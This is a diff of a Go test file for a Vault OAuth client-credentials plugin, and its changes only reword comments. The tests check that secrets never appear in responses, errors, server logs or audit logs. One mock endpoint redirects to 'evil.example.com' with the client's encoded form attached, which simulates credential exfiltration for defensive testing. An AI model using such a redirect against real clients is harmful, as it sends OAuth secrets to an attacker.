@@ -18,7 +18,7 @@ import (
 	"github.com/oauthcc/vault-plugin-oauthcc/tests/harness"
 )
 
-// laden is a config with a secret in every place that takes one.
+// laden returns a config with a secret in every field that accepts one.
 func (d *detective) laden(dialect providertest.Dialect, s *providertest.Server, name string) fields {
 	out := with(registration(dialect, s), fields{
 		"client_secret":          d.secret(name + "'s client_secret"),
@@ -56,8 +56,8 @@ func TestNoSecretComesBack(t *testing.T) {
 		})
 	}
 
-	// What an endpoint can do that knows the request: form and headers are
-	// what it was sent.
+	// The answers of an endpoint that knows the request: form and headers are
+	// what the client sent.
 	for name, answer := range map[string]func(w http.ResponseWriter, form url.Values, all string){
 		"a redirect to itself": func(w http.ResponseWriter, form url.Values, _ string) {
 			w.Header().Set("Location", "https://evil.example.com/?"+form.Encode())
@@ -181,7 +181,7 @@ func encode(w io.Writer, data fields) {
 	_ = e.Encode(data)
 }
 
-// parrot says back whatever it hears, in no protocol.
+// parrot repeats whatever it receives, without following any protocol.
 func parrot(t *testing.T) string {
 	t.Helper()
 	l, err := net.Listen("tcp", "127.0.0.1:0")
@@ -199,7 +199,7 @@ func parrot(t *testing.T) string {
 				defer func() { _ = c.Close() }()
 				heard := bufio.NewReader(c)
 				head, err := heard.Peek(1)
-				if err != nil || head[0] == 0x16 { // TLS: answer in plain
+				if err != nil || head[0] == 0x16 { // a TLS request: answer without TLS
 					say(c, "HTTP/1.0 400 Bad Request\r\n\r\nplain")
 					return
 				}
@@ -215,7 +215,7 @@ func parrot(t *testing.T) string {
 	return l.Addr().String()
 }
 
-// TestNoWriteIsQuoted sends every field in every wrong type.
+// TestNoWriteIsQuoted sends every field with values of every wrong type.
 func TestNoWriteIsQuoted(t *testing.T) {
 	t.Parallel()
 	v := harness.Start(t, harness.Options{})
@@ -228,7 +228,8 @@ func TestNoWriteIsQuoted(t *testing.T) {
 	if len(known) < 40 {
 		t.Fatalf("only %d fields: %v", len(known), known)
 	}
-	// Of later issues, and none at all: refused by name, never by value.
+	// Further names, some of which are not fields of a config. An error may
+	// contain the name, but never the value.
 	known = append(known, "private_key", "assertion", "tls_client_key", "client-secret", "zzz")
 	const number = 918273645546372
 	d.know("a number", fmt.Sprint(number))
@@ -242,13 +243,13 @@ func TestNoWriteIsQuoted(t *testing.T) {
 				secret, "{" + secret, `{"a":"` + secret, "https://" + secret, "a=b," + secret, nil, true, 1.5, 1e300, -number,
 			}
 			if strings.HasPrefix(field, "secret_") {
-				// A secret in base64 where a map belongs looks like a name
+				// A secret in base64 in place of a map looks like a name
 				// without a value.
 				values = append(values, d.word(field)+"=", []any{d.word(field) + "=="})
 			}
 			for _, value := range values {
 				if _, compound := value.(fields); !compound && field == "provider" {
-					continue // an unknown provider is named, and is no secret
+					continue // an error names an unknown provider, which is not a secret
 				}
 				d.ask(t, v, http.MethodPost, "oauthcc/config/there", fields{field: value})
 				d.ask(t, v, http.MethodPatch, "oauthcc/config/there", fields{field: value})
@@ -276,7 +277,7 @@ func TestNoWriteIsQuoted(t *testing.T) {
 		}
 	})
 	d.search(t, "the server's log", v.Log())
-	// Vault hashes texts in its audit log, and no numbers.
+	// Vault hashes strings in its audit log, but not numbers.
 	for form, name := range d.windows {
 		if name == "a number" {
 			delete(d.windows, form)
@@ -285,7 +286,7 @@ func TestNoWriteIsQuoted(t *testing.T) {
 	d.search(t, "the audit log", v.AuditLog())
 }
 
-// TestNoTokenIsLogged is for what is handed out to readers alone.
+// TestNoTokenIsLogged: only readers see the tokens that they get.
 func TestNoTokenIsLogged(t *testing.T) {
 	t.Parallel()
 	v := harness.Start(t, harness.Options{})
